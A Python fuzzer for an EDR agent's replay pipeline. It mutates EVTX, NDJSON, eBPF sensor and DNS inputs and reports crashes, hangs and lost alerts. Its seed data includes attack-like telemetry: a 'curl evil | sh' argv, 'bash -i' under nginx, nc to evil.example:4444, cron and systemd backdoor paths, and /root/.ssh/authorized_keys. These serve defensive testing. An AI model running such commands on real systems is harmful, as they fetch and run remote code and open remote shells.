#!/usr/bin/env python3
"""Fuzz ``edr replay``: mutated recordings through the real replay graph, and raw sensor input.

Every iteration makes one input and runs it through the code that takes it:

- ``evtx``, ``evtx_json``, ``ndjson``: a mutated recording, replayed together
  with a sentinel file of good events after it, by the replay graph
  (``actors/replay.toml``) under the Supervisor in this process, as
  ``edr replay`` does. The engines (Sigma, IOC, simple rules) are built
  once and shared by every run, so a run costs milliseconds. Seeds: the
  EVTX files under ``../shared/evtx-attack-samples`` and
  ``../shared/sigma-regression``, the latter's evtx JSON dumps, and NDJSON
  recorded from those events and from decoded sensor records. Mutations:
  bytes (flips, random, insertions, deletions, truncation, splicing,
  interesting integers, EVTX header and chunk fields), lines (dropped,
  repeated, joined, split, junk, BOM, CRLF, NULs) and JSON structure (deep
  nesting, huge, negative, fractional and non-finite numbers, wrong types,
  odd times, removed and renamed keys, long and non-Unicode strings).
- ``ebpf``: raw sensor records in the layouts of
  ``edr.sources.ebpf.records`` (every record type), mutated, fed to
  ``Decoder.decode`` with ``NullHost``; the events it makes are then
  recorded as NDJSON and replayed through the graph like the rest.
- ``dns``: DNS payloads (queries, answers, compression), mutated, fed to
  ``parse_dns``.

What counts as a finding, saved with its input under ``OUT/findings`` for
reproduction (``--iteration N`` with the same ``--seed`` makes it again):
an actor that fails (``Supervisor.failed``), an exception escaping the run,
a decoder or parser that raises, an exception caught inside an actor (a
record logged with its traceback: the code's bulkheads held, but a bug was
hit), an alert of the sentinel missing (a bad file stopped the next one),
events the sensor decoder made that do not all replay back once recorded,
a line of the alert or event file that is not one JSON document with a
valid ``@timestamp``, and a run that takes longer than ``--timeout``: then
the fuzzer stops at once (exit 1; a native parser that loops holds the GIL,
nothing else could run) and leaves the input, with every thread's
traceback, as the finding ``NNNNNNN-FORMAT-hang``.

    python scripts/fuzz_replay.py --seconds 600                  # the long run
    python scripts/fuzz_replay.py --seconds 600 --sigma ../shared/sigma/rules   # all of SigmaHQ too
    python scripts/fuzz_replay.py --seed 7 --iteration 1234      # one iteration again

Deterministic for a given ``--seed`` (and the same seed files): iteration N
draws from its own generator, whatever ran before it. Exits 1 on findings.
"""

from __future__ import annotations

import argparse
import contextlib
import faulthandler
import functools
import json
import logging
import random
import re
import shutil
import socket
import struct
import sys
import tempfile
import time
import traceback
from collections import Counter
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import orjson
import trio

from edr.alerts.daily_file import DailyFile
from edr.alerts.ndjson import dumps_line
from edr.config import load_config
from edr.event import CATEGORIES, Event, event_to_record, timestamp_in_range
from edr.runtime.supervisor import Supervisor
from edr.sources.ebpf import records as r
from edr.sources.ebpf.decode import Decoder
from edr.sources.ebpf.dns_wire import DnsMessage, parse_dns, qtype_name, sysmon_query_results
from edr.sources.ebpf.host import NullHost
from edr.wiring.context import AgentContext, Shared
from edr.wiring.graphs import mode_graph

REPO = Path(__file__).resolve().parents[1]
FORMATS = ("evtx", "evtx_json", "ndjson", "ebpf", "dns")
#: Inputs larger than this are cut: an iteration must stay cheap.
MAX_INPUT = 8 << 20
EVTX_HEADER, EVTX_CHUNK, EVTX_CHUNK_HEADER = 4096, 65536, 512
DNS_PER_ITERATION = 200


# ---------------------------------------------------------------- findings --
class Finding(Exception):
    """What an iteration found; ``kind`` names the category of the report."""

    def __init__(self, kind: str, detail: str) -> None:
        super().__init__(f"{kind}: {detail}")
        self.kind = kind
        self.detail = detail


#: Finding kinds that are crashes in the brief's sense: an actor or a parser that fell over.
CRASHES = frozenset({"actor failed", "exception escaped", "decoder raised", "parser raised", "hang"})


class Capture(logging.Handler):
    """Keeps the agent's log records of one run (the fuzzer does not print them)."""

    def __init__(self) -> None:
        super().__init__(logging.WARNING)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


# ------------------------------------------------------------------ seeds --
LINUX_EVENTS: list[dict[str, Any]] = [
    {"ts": 1_763_000_000.5, "seq": 1, "category": "process_creation", "product": "linux", "fields": {
        "ProcessId": 4242, "Image": "/usr/bin/bash", "CommandLine": "bash -i", "User": "www-data",
        "ParentProcessId": 4000, "ParentImage": "/usr/sbin/nginx", "CurrentDirectory": "/var/www", "Uid": 33}},
    {"ts": 1_763_000_001.0, "seq": 2, "category": "process_creation", "product": "linux", "fields": {
        "ProcessId": 4243, "Image": "/usr/bin/whoami", "CommandLine": "whoami", "User": "root",
        "ParentProcessId": 4242, "ParentImage": "/usr/bin/bash", "Hashes": "SHA256=AB,MD5=CD"}},
    {"ts": 1_763_000_001.25, "seq": 3, "category": "network_connection", "product": "linux", "fields": {
        "ProcessId": 5151, "Image": "/usr/bin/nc", "User": "root", "Protocol": "tcp", "Initiated": "true",
        "SourceIp": "10.0.0.5", "SourcePort": 40000, "DestinationIp": "203.0.113.9", "DestinationPort": 4444,
        "DestinationHostname": "evil.example"}, "count": 3},
    {"ts": 1_763_000_002.0, "seq": 4, "category": "file_event", "product": "linux", "fields": {
        "ProcessId": 777, "Image": "/tmp/x", "User": "root", "TargetFilename": "/etc/cron.d/backdoor",
        "Operation": "file_create", "CommandLine": "cp x /etc/cron.d/backdoor"}},
    {"ts": 1_763_000_003.0, "seq": 5, "category": "dns_query", "product": "linux", "fields": {
        "ProcessId": 88, "Image": "/usr/bin/curl", "QueryName": "evil.example", "QueryType": "A",
        "QueryStatus": "0", "QueryResults": "type:  5 cdn.example;::ffff:203.0.113.9;2001:db8::1;"}},
    {"ts": 1_763_000_004.0, "seq": 6, "category": "file_rename", "product": "linux", "service": "x", "fields": {
        "ProcessId": 9, "SourceFilename": "/a", "TargetFilename": "/etc/systemd/system/evil.service"}},
    {"ts": 1_763_000_005.0, "seq": 7, "category": "process_termination", "product": "linux",
     "fields": {"ProcessId": 4242, "Comm": "bash"}},
]

#: Good events replayed after every mutated file; their alerts must all be written.
SENTINEL = [LINUX_EVENTS[0], LINUX_EVENTS[1], LINUX_EVENTS[2], LINUX_EVENTS[3]]


class Corpus:
    """The seed inputs of each format, loaded once."""

    def __init__(self, shared: Path | None, rng: random.Random) -> None:
        self.evtx: list[Path] = []
        self.evtx_json: list[bytes] = []
        self.records: list[dict[str, Any]] = [dict(e) for e in LINUX_EVENTS]
        self._bytes: dict[Path, bytes] = {}
        if shared is not None:
            for folder in ("evtx-attack-samples", "sigma-regression"):
                self.evtx.extend(sorted((shared / folder).rglob("*.evtx")))
            self.evtx_json = [p.read_bytes() for p in sorted((shared / "sigma-regression").rglob("*.json"))]
        self._from_evtx(rng)
        self.records.extend(event_to_record(e) for e in ebpf_events(rng, 40))
        # as an NDJSON file holds them (text that is not Unicode spelt out)
        self.records = [orjson.loads(dumps_line(record)) for record in self.records]
        if not self.evtx_json:  # without ../shared: dumps of the generated Windows-like records
            self.evtx_json = [orjson.dumps(_winlog_record(i), option=orjson.OPT_INDENT_2) for i in range(8)]

    def _from_evtx(self, rng: random.Random) -> None:
        """NDJSON and evtx JSON seeds recorded from real EVTX events (a sample of files)."""
        from edr.sources.replay.winlog import evtx_records, winlog_to_event

        for path in rng.sample(self.evtx, min(len(self.evtx), 40)):
            dumps: list[bytes] = []
            for _, record in evtx_records(path):
                if not isinstance(record, dict):
                    continue
                event = winlog_to_event(record, str(path))
                if event is not None and len(self.records) < 3000:
                    self.records.append(event_to_record(event))
                if len(dumps) < 5:
                    record.pop("#record", None)
                    dumps.append(orjson.dumps(record, option=orjson.OPT_INDENT_2))
            if dumps:
                self.evtx_json.append(b"\n".join(dumps) + b"\n")

    def evtx_bytes(self, path: Path) -> bytes:
        data = self._bytes.get(path)
        if data is None:
            data = self._bytes[path] = path.read_bytes()
        return data


def _winlog_record(i: int) -> dict[str, Any]:
    return {"Event": {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
                      "System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 1,
                                 "Channel": "Microsoft-Windows-Sysmon/Operational", "EventRecordID": i,
                                 "TimeCreated": {"#attributes": {"SystemTime": "2024-01-02T03:04:05.1234567Z"}},
                                 "Computer": "host", "Level": 4, "Keywords": "0x8000000000000000"},
                      "EventData": {"Image": "C:\\Windows\\System32\\whoami.exe", "CommandLine": "whoami /all",
                                    "ParentImage": "C:\\Windows\\System32\\cmd.exe", "User": "DOM\\bob",
                                    "ProcessId": 4242, "Hashes": "SHA256=AB,MD5=CD"}}}


# -------------------------------------------------------------- mutations --
INTERESTING_INTS = (0, 1, -1, 0x7F, 0x80, 0xFF, 0x7FFF, 0x8000, 0xFFFF, 0x7FFFFFFF, 0x80000000, 0xFFFFFFFF,
                    2**63 - 1, 2**63, 2**64 - 1, 4096, 65536, 512, -100)
#: Raw JSON text put where a value was (numbers no Python float holds, non-JSON tokens, depths).
RAW_VALUES = ("1e300", "-1e15", "1e308", "-1e308", "1e999", "-1e999", "NaN", "Infinity", "-Infinity", "-0.0",
              "1e-320", "0.1", str(10**30), str(-(10**40)), str(2**63), str(2**64), str(-(2**63) - 1),
              "1" + "0" * 5000, "253402300800", "-62135596801", "1.7e9", '"\\ud800"', '"\\udcff\\u0000x"',
              '"' + "A" * 100_000 + '"', '"\\u0000"', "true", "null", '""', "[]", "{}")
DEPTHS = (2, 17, 33, 64, 256, 260, 1025, 5000, 20000)
PY_VALUES: tuple[Any, ...] = ("", "x", 0, -1, 1.5, True, False, None, [], {}, [1, "a", None], {"#text": "x"},
                              {"#attributes": {"Name": 1}}, "\x00", "a" * 10_000, [None] * 50, ["a"] * 1000,
                              {"k": {"k": {"k": "v"}}}, "0x" + "f" * 6000, "9" * 5000, "/etc/cron.d/x",
                              "C:\\Windows\\System32\\cmd.exe", "::ffff:1.2.3.4;type:  5 a;", "SHA256=,=x,",
                              "true", "TRUE", "1", "4444")
ODD_TIMES = ("0000-01-01T00:00:00Z", "0001-01-01T00:00:00Z", "0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59Z",
             "9999-12-31T23:59:59.9999999Z", "9999-12-31T23:59:59-01:00", "2024-13-45T99:99:99Z", "", "x" * 1000,
             "2024-01-01T00:00:00.12345678901234567890Z", "+275760-09-13T00:00:00Z", "2024-01-01", "1970-01-01T00:00Z",
             "2024-01-01 00:00:00", "2024-01-01T00:00:00ZZ", "\udcff")
NDJSON_KEYS = ("ts", "seq", "count", "category", "product", "fields", "service", "origin", "line")
WINLOG_PATHS = (("Event",), ("Event", "System"), ("Event", "System", "EventID"), ("Event", "System", "Channel"),
                ("Event", "System", "TimeCreated", "#attributes", "SystemTime"), ("Event", "EventData"),
                ("Event", "UserData"), ("Event", "System", "Provider", "#attributes", "Name"),
                ("Event", "System", "EventRecordID"), ("Event", "System", "Computer"), ("Event", "System", "Level"),
                ("Event", "System", "Keywords"), ("Event", "System", "TimeCreated"))
SPECIAL_BYTES = (b"\n", b"{", b"}", b'"', b"\\", b"\0", b"\xff", b"\r\n", b"\xef\xbb\xbf", b"[", b":", b",",
                 b"\xed\xa0\x80", b"\xc3", b"ElfFile\0", b"ElfChnk\0", b"**\0\0", b"Record 1\n")


class Mutator:
    """The mutations of one iteration, drawn from its generator."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self._raw: dict[str, str] = {}

    # ---- bytes
    def bytes(self, data: bytes, others: list[bytes], rounds: int | None = None) -> bytes:
        rng = self.rng
        buf = bytearray(data)
        for _ in range(rounds if rounds is not None else rng.choice((1, 1, 2, 3, 5, 10, 40))):
            if not buf:
                buf = bytearray(rng.randbytes(rng.randrange(1, 64)))
            pos = rng.randrange(len(buf))
            span = min(len(buf) - pos, rng.choice((1, 2, 4, 8, 64, 512, 4096)))
            op = rng.randrange(12)
            if op == 0:
                buf[pos] ^= 1 << rng.randrange(8)
            elif op == 1:
                buf[pos:pos + span] = rng.randbytes(span)
            elif op == 2:
                buf[pos:pos] = rng.randbytes(rng.randrange(1, 65))
            elif op == 3:
                del buf[pos:pos + span]
            elif op == 4:
                buf[pos:pos] = buf[pos:pos + span] * rng.choice((1, 2, 16, 256))
            elif op == 5:
                del buf[pos:]
            elif op == 6:
                self._int_at(buf, pos)
            elif op == 7:
                buf[pos:pos + span] = bytes(span)
            elif op == 8 and others:
                other = rng.choice(others)
                buf[pos:] = other[rng.randrange(len(other)):] if other else b""
            elif op == 9:
                buf[pos:pos] = rng.choice(SPECIAL_BYTES)
            elif op == 10:
                buf[pos:pos + span] = b"\xff" * span
            else:
                other_pos = rng.randrange(len(buf))
                buf[pos:pos + span], buf[other_pos:other_pos + span] = (buf[other_pos:other_pos + span],
                                                                        buf[pos:pos + span])
            if len(buf) > MAX_INPUT:
                del buf[MAX_INPUT:]
        return bytes(buf)

    def _int_at(self, buf: bytearray, pos: int) -> None:
        rng = self.rng
        width = rng.choice((1, 2, 4, 8))
        value = rng.choice(INTERESTING_INTS) % (1 << (8 * width))
        buf[pos:pos + width] = value.to_bytes(width, rng.choice(("little", "big")))

    def evtx(self, data: bytes, others: list[bytes]) -> bytes:
        """EVTX-aware: header, chunk header and record header fields, then bytes."""
        rng = self.rng
        if len(data) > EVTX_HEADER + EVTX_CHUNK and rng.random() < 0.5:  # whole chunks, fewer records
            data = data[:EVTX_HEADER + EVTX_CHUNK * rng.randrange(1, 4)]
        buf = bytearray(data)
        for _ in range(rng.randrange(1, 6)):
            if not buf:
                break
            where = rng.randrange(4)
            chunks = max((len(buf) - EVTX_HEADER) // EVTX_CHUNK, 1)
            if where == 0:
                pos = rng.randrange(min(len(buf), 128))
            elif where == 1:
                pos = min(len(buf) - 1, EVTX_HEADER + EVTX_CHUNK * rng.randrange(chunks)
                          + rng.randrange(EVTX_CHUNK_HEADER))
            elif where == 2:
                marks = [i for i in range(0, len(buf) - 24, 8) if buf[i:i + 4] == b"**\0\0"][:256]
                if not marks:
                    continue
                pos = rng.choice(marks) + rng.choice((4, 8, 16, 20, 24))
            else:
                pos = rng.randrange(len(buf))
            self._int_at(buf, min(pos, len(buf) - 1))
        return self.bytes(bytes(buf), others, rounds=rng.choice((0, 0, 1, 3))) if rng.random() < 0.7 else bytes(buf)

    # ---- lines
    def lines(self, data: bytes) -> bytes:
        rng = self.rng
        lines = data.split(b"\n")
        for _ in range(rng.randrange(1, 5)):
            if not lines:
                lines = [b""]
            i = rng.randrange(len(lines))
            op = rng.randrange(10)
            if op == 0:
                del lines[i]
            elif op == 1:
                lines.insert(i, lines[i])
            elif op == 2 and i + 1 < len(lines):
                lines[i:i + 2] = [lines[i] + lines[i + 1]]
            elif op == 3:
                cut = rng.randrange(len(lines[i]) + 1)
                lines[i:i + 1] = [lines[i][:cut], lines[i][cut:]]
            elif op == 4:
                lines.insert(i, rng.choice((b"junk", b"Record 7", b"{", b"}", b"[", b"\0" * 100, b" " * 10)))
            elif op == 5:
                lines[i] = lines[i][:rng.randrange(len(lines[i]) + 1)]
            elif op == 6:
                lines = [x + b"\r" for x in lines]
            elif op == 7:
                lines[0] = b"\xef\xbb\xbf" + lines[0]
            elif op == 8:
                lines.insert(i, b"{" + b"x" * rng.choice((100, 2 << 20)))  # a huge line
            else:
                j = rng.randrange(len(lines))
                lines[i], lines[j] = lines[j], lines[i]
        return b"\n".join(lines)

    # ---- JSON structure
    def record(self, record: Any, paths: tuple[tuple[str, ...], ...] = ()) -> Any:
        """``record`` with one value replaced, removed or renamed (a copy)."""
        rng = self.rng
        record = orjson.loads(orjson.dumps(record))  # a copy: seeds are valid JSON
        slots = list(_slots(record))
        if paths and rng.random() < 0.5:
            parent, key = _walk(record, rng.choice(paths))
        elif slots:
            parent, key = rng.choice(slots)
        else:
            return self.value()
        if parent is None:
            return self.value()
        op = rng.randrange(6)
        if op == 0 and isinstance(parent, dict):
            parent.pop(key, None)
        elif op == 1 and isinstance(parent, dict) and key in parent:
            parent[rng.choice(("", key.upper(), key + "x", "#text", "@@", "\ud800"))] = parent.pop(key)
        elif op == 2 and key is not None and "Time" in str(key):
            _put(parent, key, rng.choice(ODD_TIMES))
        else:
            _put(parent, key, self.value())
        return record

    def value(self) -> Any:
        """A value to put in a record: a Python value, or a placeholder for raw JSON text."""
        rng = self.rng
        kind = rng.randrange(4)
        if kind == 0:
            return rng.choice(PY_VALUES)
        if kind == 1:
            return rng.choice(ODD_TIMES)
        if kind == 2:
            depth = rng.choice(DEPTHS)
            text = "[" * depth + "]" * depth if rng.random() < 0.5 else '{"a":' * depth + "1" + "}" * depth
            return self._placeholder(text)
        return self._placeholder(rng.choice(RAW_VALUES))

    def _placeholder(self, text: str) -> str:
        token = f"@@FUZZ{len(self._raw)}@@"
        self._raw[token] = text
        return token

    def dumps(self, record: Any, *, indent: bool = False) -> bytes:
        """``record`` as JSON text, with the raw values put in place of their placeholders."""
        option = orjson.OPT_INDENT_2 if indent else 0
        try:
            text = orjson.dumps(record, option=option | orjson.OPT_NON_STR_KEYS).decode()
        except TypeError:  # a lone surrogate: the standard encoder escapes it
            text = json.dumps(record, indent=2 if indent else None)
        for token, raw in self._raw.items():
            text = text.replace(f'"{token}"', raw)
        return text.encode("utf-8", "surrogatepass")


def _slots(record: Any) -> Iterator[tuple[Any, Any]]:
    """Every (container, key or index) of ``record`` (which is shallow: seeds come from real events)."""
    stack = [record]
    while stack:
        node = stack.pop()
        items = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
        for key, child in items:
            yield node, key
            if isinstance(child, (dict, list)):
                stack.append(child)


def _walk(record: Any, path: tuple[str, ...]) -> tuple[Any, Any]:
    node = record
    for key in path[:-1]:
        if not isinstance(node, dict) or not isinstance(node.get(key), dict):
            return None, None
        node = node[key]
    return (node, path[-1]) if isinstance(node, dict) else (None, None)


def _put(parent: Any, key: Any, value: Any) -> None:
    if isinstance(parent, dict) or (isinstance(parent, list) and isinstance(key, int) and key < len(parent)):
        parent[key] = value


# ------------------------------------------------------------ sensor input --
def _hdr(rng: random.Random, typ: int, pid: int, aux: int = 0, xflags: int = 0) -> bytes:
    comm = rng.choice((b"bash", b"curl", b"\xff\xfe", b"x" * 16, b""))
    return r.HDR.pack(rng.randrange(1, 1 << 50), rng.randrange(1 << 20), typ, xflags, pid, pid,
                      rng.choice((0, 1000, 0xFFFFFFFF)), rng.choice((0, 1000)), aux, comm)


def _path(rng: random.Random) -> bytes:
    return rng.choice((b"/etc/cron.d/evil", b"relative/x", b"", b"/tmp/\xff\xfe", b"a" * 511, b"/",
                       b"../../etc/passwd", b"/etc/systemd/system/x.service", b"/root/.ssh/authorized_keys"))


def _sockaddr(rng: random.Random) -> bytes:
    kind = rng.randrange(4)
    port = rng.choice((0, 53, 443, 4444, 65535))
    if kind == 0:
        return struct.pack("<HH4s", r.AF_INET, socket.htons(port), bytes(rng.randbytes(4))).ljust(16, b"\0")
    if kind == 1:
        ip = rng.choice((socket.inet_pton(socket.AF_INET6, "::ffff:1.2.3.4"), bytes(rng.randbytes(16)), bytes(16)))
        return struct.pack("<HHI16sI", r.AF_INET6, socket.htons(port), 0, ip, 0)
    if kind == 2:
        return struct.pack("<H", rng.choice((1, 17, 0xFFFF))) + rng.randbytes(26)
    return b""


def dns_payload(rng: random.Random) -> bytes:
    """A DNS query or answer as a resolver sends it (names compressed), with odd counts now and then."""
    name = rng.choice(("evil.example", "a.b.c.d.e.f", "x" * 63 + ".com", "", "xn--80ak6aa92e.com"))
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".") if p) + b"\0"
    response = rng.random() < 0.6
    answers = []
    for _ in range(rng.randrange(4) if response else 0):
        rtype = rng.choice((1, 28, 5, 16, 99))
        rdata = {1: rng.randbytes(4), 28: rng.randbytes(16), 5: b"\x03cdn\xc0\x0c"}.get(rtype, rng.randbytes(7))
        answers.append(b"\xc0\x0c" + struct.pack(">HHIH", rtype, 1, rng.choice((0, 60, 0xFFFFFFFF)), len(rdata))
                       + rdata)
    counts = (1, len(answers)) if rng.random() < 0.8 else (rng.randrange(0x10000), rng.randrange(0x10000))
    message = struct.pack(">HHHHHH", rng.randrange(0x10000), 0x8180 if response else 0x0100, counts[0], counts[1],
                          0, 0) + labels + struct.pack(">HH", rng.choice((1, 28, 255, 65)), 1) + b"".join(answers)
    if rng.random() < 0.2:  # over TCP: a length prefix
        message = len(message).to_bytes(2, "big") + message
    return message


def ebpf_record(rng: random.Random) -> r.RawRecord:
    """One well-formed record of a random type, as bpf/sensor.c writes it."""
    pid = rng.choice((1, 4242, 0x7FFFFFFF, 0xFFFFFFFF))
    typ = rng.choice((r.EV_EXEC, r.EV_FORK, r.EV_EXIT, r.EV_CHDIR, r.EV_CONNECT, r.EV_ACCEPT, r.EV_SENDTO,
                      r.EV_FILE, r.EV_FILE, r.EV_DNS))
    if typ == r.EV_EXEC:
        argv = rng.choice(([b"bash", b"-c", b"curl evil | sh"], [b"\xff"], [], [b"a"] * 200, [b"x" * 4000]))
        blob = b"".join(a + b"\0" for a in argv)
        fname = rng.choice((b"/usr/bin/bash", b"/dev/fd/3", b"./run", b"/tmp/x")) + b"\0"
        data = _hdr(rng, typ, pid, aux=rng.choice((0, 1, -1)), xflags=rng.randrange(4))
        start_ns = rng.choice((0, 1, 10**15, 2**64 - 1))  # the fork time (0: forked before the sensor)
        euid = rng.choice((0, 1000, r.EUID_UNKNOWN))
        data += r.EXEC_TAIL.pack(len(argv), len(fname), len(blob), start_ns, euid, 0) + blob + fname
        return r.RawRecord(r.PROCESS, data)
    if typ in (r.EV_FORK, r.EV_EXIT):
        return r.RawRecord(r.PROCESS, _hdr(rng, typ, pid, aux=rng.choice((4243, 0, -5))))
    if typ == r.EV_CHDIR:
        data = _hdr(rng, typ, pid) + r.CHDIR_TAIL.pack(rng.choice((r.AT_FDCWD, 3, -1)), 0)
        return r.RawRecord(r.PROCESS, data + _path(rng).ljust(r.PATH_SIZE, b"\0"))
    if typ in (r.EV_CONNECT, r.EV_ACCEPT, r.EV_SENDTO):
        addr, laddr = _sockaddr(rng), _sockaddr(rng)
        data = _hdr(rng, typ, pid) + r.NET_TAIL.pack(rng.choice((3, -1)), rng.choice((0, 6, 17)), len(addr),
                                                     addr.ljust(28, b"\0"), len(laddr), 0, laddr.ljust(28, b"\0"),
                                                     0)
        return r.RawRecord(r.NETWORK, data)
    if typ == r.EV_FILE:
        op = rng.choice((r.OP_OPEN, r.OP_UNLINK, r.OP_RMDIR, r.OP_RENAME, r.OP_MKDIR, r.OP_CHMOD, r.OP_CHOWN,
                         r.OP_LINK, r.OP_SYMLINK, 0, 99))
        data = _hdr(rng, typ, pid) + r.FILE_TAIL.pack(op, 0, rng.choice((r.AT_FDCWD, 3)), r.AT_FDCWD,
                                                      rng.choice((0, 0o100, 0o1000, 0x200)), 0o644, 0,
                                                      rng.choice((0, 1, 2**64 - 1)))  # the syscall's entry
        return r.RawRecord(r.FILE, data + _path(rng).ljust(r.PATH_SIZE, b"\0") + _path(rng).ljust(r.PATH_SIZE, b"\0"))
    payload = dns_payload(rng)
    data = _hdr(rng, typ, pid) + r.DNS_TAIL.pack(3, rng.randrange(2), len(payload), _sockaddr(rng).ljust(28, b"\0"),
                                                 0)
    return r.RawRecord(r.DNS, data + payload)


def ebpf_events(rng: random.Random, n: int) -> list[Event]:
    """Events the decoder makes of ``n`` well-formed records (seeds for NDJSON)."""
    decoder = Decoder(host=NullHost(), boot_offset=1_700_000_000.0)
    events: list[Event] = []
    for _ in range(n):
        events.extend(decoder.decode(ebpf_record(rng)))
    return events + decoder.flush(now=2e9)


# ------------------------------------------------------------------ runs --
class Replayer:
    """The replay graph with engines built once; one in-process run per input."""

    def __init__(self, work: Path, sigma: list[str], capture: Capture) -> None:
        self.work = work
        self.capture = capture
        rules = REPO / "rules"
        overrides: dict[str, Any] = {
            "scanner.sigma_rules_path": [str(rules / "sigma"), *sigma],
            "sigma.cache_dir": str(work.parent / "sigma-cache"),
            "simple.rules_path": str(rules / "edr-rules.toml"),
            "ioc.hashes_path": str(rules / "ioc/hashes.txt"), "ioc.ips_path": str(rules / "ioc/ips.txt"),
            "ioc.domains_path": str(rules / "ioc/domains.txt"),
            "ioc.paths_regex_path": str(rules / "ioc/paths_regex.txt"),
            "events.enabled": True, "events.directory": str(work / "events"),
            "alerts.directory": str(work / "alerts"), "logging.directory": str(work / "logs"),
        }
        self.config = load_config(None, environ={}, overrides=overrides).config
        self.graph = mode_graph("replay")
        self.shared = Shared(self.config)
        started = time.monotonic()
        self.shared.detection  # built once here, reused by every run  # noqa: B018
        self.load_secs = time.monotonic() - started
        self.sentinel = work / "sentinel.ndjson"
        self.sentinel.write_bytes(b"".join(orjson.dumps(e) + b"\n" for e in SENTINEL))
        self.expected: Counter[tuple[Any, Any]] | None = None
        baseline = self.run([])
        if baseline.findings or not baseline.sentinel_alerts:
            raise SystemExit(f"fuzz_replay: the sentinel alone does not replay cleanly: {baseline.findings}")
        self.expected = baseline.sentinel_alerts

    def engines(self) -> str:
        return ", ".join(e.name for e in self.shared.detection.engines)

    def run(self, files: list[Path]) -> RunResult:
        """Replay ``files`` then the sentinel; what went wrong, and what the source and normalizer counted."""
        for sub in ("alerts", "events"):
            shutil.rmtree(self.work / sub, ignore_errors=True)
        self.capture.records.clear()
        ctx = AgentContext.create(self.config, "replay", shared=self.shared, log=logging.getLogger("edr"),
                                  files=[str(f) for f in [*files, self.sentinel]],
                                  alert_file=DailyFile(self.work / "alerts", "alerts.json"))
        sup = Supervisor(self.graph, ctx)
        result = RunResult()
        try:
            trio.run(functools.partial(sup.run, handle_signals=False))
        except BaseException as exc:  # what escapes the Supervisor is what the brief calls a crash
            if isinstance(exc, KeyboardInterrupt):
                raise
            result.findings.append(Finding("exception escaped", "".join(traceback.format_exception(exc))))
            return result
        for name in sup.failed:
            result.findings.append(Finding("actor failed", f"{name}: {self._traceback_of(name)}"))
        for record in self.capture.records:
            if record.levelno >= logging.ERROR and record.exc_info and not record.getMessage().startswith("actor "):
                text = "".join(traceback.format_exception(*record.exc_info))
                result.findings.append(Finding("contained exception", f"{record.getMessage()}\n{text}"))
        alerts = self._check_lines(self.work / "alerts", "alerts.json", result, alerts=True)
        self._check_lines(self.work / "events", "events.json", result, alerts=False)
        result.sentinel_alerts = Counter((a.get("rule.id"), a.get("edr.log.line")) for a in alerts
                                         if a.get("log.file.path") == str(self.sentinel))
        if self.expected is not None and result.sentinel_alerts != self.expected:
            result.findings.append(Finding("sentinel alerts lost", f"{dict(result.sentinel_alerts)} != "
                                                                   f"{dict(self.expected)}"))
        source, norm = sup.actors["source"], sup.actors["normalizer"]
        result.unusable = sum(1 for path, _ in source.failures if path != str(self.sentinel))
        result.rejected = norm.rejected
        result.events = norm.decoded - len(SENTINEL)
        result.alerts = sum(1 for a in alerts if a.get("log.file.path") != str(self.sentinel))
        return result

    def _traceback_of(self, actor: str) -> str:
        for record in self.capture.records:
            if record.getMessage().startswith(f"actor {actor} ") and record.exc_info:
                return "".join(traceback.format_exception(*record.exc_info))
        return "(no traceback logged)"

    @staticmethod
    def _check_lines(directory: Path, name: str, result: RunResult, *, alerts: bool) -> list[dict[str, Any]]:
        docs: list[dict[str, Any]] = []
        for path in sorted(directory.glob(f"{name}.*")):
            data = path.read_bytes()
            if data and not data.endswith(b"\n"):
                result.findings.append(Finding("bad output line", f"{path.name}: last line unterminated"))
            for n, line in enumerate(data.splitlines(), 1):
                try:
                    doc = orjson.loads(line)
                    if not isinstance(doc, dict):
                        raise ValueError("not an object")
                    if alerts:
                        datetime.fromisoformat(doc["@timestamp"].replace("Z", "+00:00"))
                except (ValueError, KeyError, AttributeError) as exc:
                    result.findings.append(Finding("bad output line", f"{path.name}:{n}: {exc}: {line[:300]!r}"))
                    continue
                docs.append(doc)
        return docs


class RunResult:
    """What one replay run found and counted."""

    def __init__(self) -> None:
        self.findings: list[Finding] = []
        self.sentinel_alerts: Counter[tuple[Any, Any]] = Counter()
        self.unusable = self.rejected = self.events = self.alerts = 0


# --------------------------------------------------------------- fuzzing --
class Fuzzer:
    """Iterations over the formats in turn; counts, findings and their saved inputs."""

    def __init__(self, args: argparse.Namespace, out: Path) -> None:
        self.seed = args.seed
        self.out = out
        self.work = out / "work"
        self.work.mkdir(parents=True, exist_ok=True)
        self.capture = Capture()
        edr_log = logging.getLogger("edr")
        edr_log.handlers[:] = [self.capture]
        edr_log.propagate = False
        edr_log.setLevel(logging.WARNING)
        shared = Path(args.shared) if args.shared else None
        if shared is not None and not shared.is_dir():
            print(f"fuzz_replay: {shared} not found: generated seeds only, no EVTX", file=sys.stderr)
            shared = None
        self.corpus = Corpus(shared, random.Random(f"{self.seed}:corpus"))
        self.formats = tuple(f for f in (args.formats or FORMATS) if f != "evtx" or self.corpus.evtx)
        self.replayer = Replayer(self.work, args.sigma or [], self.capture)
        self.tried: Counter[str] = Counter()
        self.counts: dict[str, Counter[str]] = {f: Counter() for f in FORMATS}
        self.findings: list[tuple[int, str, Finding, Path]] = []
        self.timeout = args.timeout

    def iteration(self, k: int) -> None:
        """Make input ``k`` (its format is the k-th in turn) and run it; findings are saved with it."""
        fmt = self.formats[k % len(self.formats)]
        rng = random.Random(f"{self.seed}:{k}")
        mutator = Mutator(rng)
        inputs: list[Path] = []
        try:
            if fmt == "dns":
                self._dns(k, rng, mutator, inputs)
            elif fmt == "ebpf":
                self._ebpf(k, rng, mutator, inputs)
            else:
                data = getattr(self, f"_make_{fmt}")(rng, mutator)
                path = self.work / {"evtx": "input.evtx", "evtx_json": "input.json"}.get(fmt, "input.ndjson")
                path.write_bytes(data)
                inputs.append(path)
                with self._guard(k, fmt, inputs):
                    self._replay(k, fmt, inputs)
        except Finding as finding:
            self._save(k, fmt, finding, inputs)
        finally:
            for path in inputs:
                path.unlink(missing_ok=True)

    def _replay(self, k: int, fmt: str, inputs: list[Path], recorded: int | None = None) -> None:
        """Replay ``inputs``; ``recorded``: how many events they hold that must all come back."""
